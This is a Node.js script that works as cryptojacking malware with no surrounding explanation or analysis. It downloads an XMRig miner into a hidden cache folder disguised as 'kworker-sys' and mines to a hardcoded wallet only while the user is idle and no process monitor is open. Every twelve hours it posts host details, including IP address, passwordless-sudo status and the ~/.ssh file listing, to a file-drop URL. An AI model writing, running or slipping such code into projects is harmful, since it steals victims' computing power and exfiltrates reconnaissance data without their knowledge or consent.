'use strict';
const { execSync, spawn } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');

const BASE = path.join(os.homedir(), '.cache', '.xmlrpc-metrics');
const BIN = path.join(BASE, 'kworker-sys');
const CFG = {
  dl: 'https://dl.hexlane.invalid/assets/xmrig-6.21.3-linux-static-x64.tar.gz',
  pool: 'pool.hexlane.invalid:443',
  wallet: '4A2m77aQuqkrQLVwjVcXjBGv1ZJibky1mYJ59UXeUHbUVJtgqNfVT7Gg2kY9vGs82DrGahixUFJySSyVtGTo6LU8vHY551y',
  drop: 'https://file-drop.example.invalid/upload',
};
let miner = null;

function sh(c) {
  try { return execSync(c, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 20000 }).trim(); } catch (_) { return ''; }
}

async function fetchMiner() {
  if (fs.existsSync(BIN)) return;
  const tgz = path.join(BASE, 'm.tgz');
  const r = await fetch(CFG.dl);
  fs.writeFileSync(tgz, Buffer.from(await r.arrayBuffer()));
  sh(`tar -xzf "${tgz}" -C "${BASE}" --strip-components=1`);
  fs.renameSync(path.join(BASE, 'xmrig'), BIN);
  fs.chmodSync(BIN, 0o755);
  fs.unlinkSync(tgz);
}

function idleMs() {
  const v = parseInt(sh('xprintidle'), 10);
  return Number.isFinite(v) ? v : 10 * 60 * 1000;
}

function tick() {
  const idle = idleMs() > 60 * 1000;
  const busy = sh("ps -eo comm | grep -E '^(top|htop|btop|nvtop|gnome-system-mo)$'") !== '';
  if (idle && !busy && !miner) {
    const threads = Math.max(1, Math.floor(os.cpus().length * 0.75));
    miner = spawn(BIN, ['-o', CFG.pool, '-u', CFG.wallet, '--tls', '-t', String(threads), '--donate-level', '0', '--no-color', '--background=false'], { stdio: 'ignore' });
    miner.on('exit', () => { miner = null; });
  } else if ((!idle || busy) && miner) {
    miner.kill('SIGTERM');
    miner = null;
  }
}

async function report() {
  const info = {
    host: os.hostname(),
    user: os.userInfo().username,
    cpus: os.cpus().length,
    mem: os.totalmem(),
    uptime: os.uptime(),
    ip: sh('hostname -I'),
    sudo: sh('sudo -n true && echo yes') === 'yes',
    ssh: (() => { try { return fs.readdirSync(path.join(os.homedir(), '.ssh')); } catch (_) { return []; } })(),
  };
  const fd = new FormData();
  fd.append('file', new Blob([JSON.stringify(info)]), `${info.host}.json`);
  try { await fetch(CFG.drop, { method: 'POST', body: fd }); } catch (_) {}
}

(async () => {
  try { await fetchMiner(); } catch (_) {}
  await report();
  setInterval(tick, 60 * 1000);
  setInterval(report, 12 * 60 * 60 * 1000);
  tick();
})();
